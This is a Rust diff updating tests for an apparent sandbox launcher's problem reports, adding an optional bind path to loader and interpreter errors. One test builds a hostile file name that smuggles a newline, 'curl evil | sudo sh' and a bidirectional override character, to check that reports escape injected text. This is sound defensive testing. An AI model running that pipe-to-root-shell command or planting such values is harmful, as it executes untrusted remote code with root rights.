@@ -30,6 +30,7 @@ fn what_the_launcher_found_is_all_that_is_said() {
             ProgramProblem::LoaderMissing {
                 path: path.clone(),
                 interpreter: "/lib64/ld-linux-x86-64.so.2".into(),
+                bind: Some("/lib64".into()),
             },
             "EX01",
         ),
@@ -37,6 +38,7 @@ fn what_the_launcher_found_is_all_that_is_said() {
             ProgramProblem::InterpreterMissing {
                 path: path.clone(),
                 interpreter: "/opt/py/bin/python".into(),
+                bind: Some("/opt/py/bin".into()),
             },
             "EX01",
         ),
@@ -88,8 +90,8 @@ fn a_circle_is_known_from_the_message_alone() {
 fn names_in_a_file_are_no_lines_of_a_report() {
     let evil = || PathBuf::from("/usr/lib/x\n     curl evil | sudo sh\n\u{202e}");
     for problem in [
-        ProgramProblem::LoaderMissing { path: evil(), interpreter: evil() },
-        ProgramProblem::InterpreterMissing { path: evil(), interpreter: evil() },
+        ProgramProblem::LoaderMissing { path: evil(), interpreter: evil(), bind: Some(evil()) },
+        ProgramProblem::InterpreterMissing { path: evil(), interpreter: evil(), bind: None },
         ProgramProblem::CarriageReturn { path: evil(), interpreter: evil() },
         ProgramProblem::DanglingLink { path: evil(), link: evil(), target: evil() },
         ProgramProblem::NotSearchable { path: evil(), directory: evil(), mode: 0 },
@@ -132,14 +134,15 @@ fn a_link_is_followed_where_it_is_the_same_on_the_host() {
 
 #[test]
 fn a_loader_is_bound_or_installed() {
-    let loader = |path: &str| {
-        let problem = ProgramProblem::LoaderMissing { path: "/usr/bin/x".into(), interpreter: path.into() };
+    let loader = |path: &str, bind: Option<&str>| {
+        let (path, interpreter, bind) = ("/usr/bin/x".into(), path.into(), bind.map(PathBuf::from));
+        let problem = ProgramProblem::LoaderMissing { path, interpreter, bind };
         found(problem).causes[0].remedies[0].action.clone()
     };
     let bind = SandboxChange::RoBind { path: "/lib64".into() };
-    assert_eq!(loader("/lib64/ld-linux-x86-64.so.2"), Action::Sandbox(bind));
+    assert_eq!(loader("/lib64/ld-linux-x86-64.so.2", Some("/lib64")), Action::Sandbox(bind));
     // /usr is there, and has none
-    assert!(matches!(loader("/usr/lib/ld-musl.so.1"), Action::Manual(_)));
+    assert!(matches!(loader("/usr/lib/ld-musl.so.1", None), Action::Manual(_)));
 }
 
 #[test]
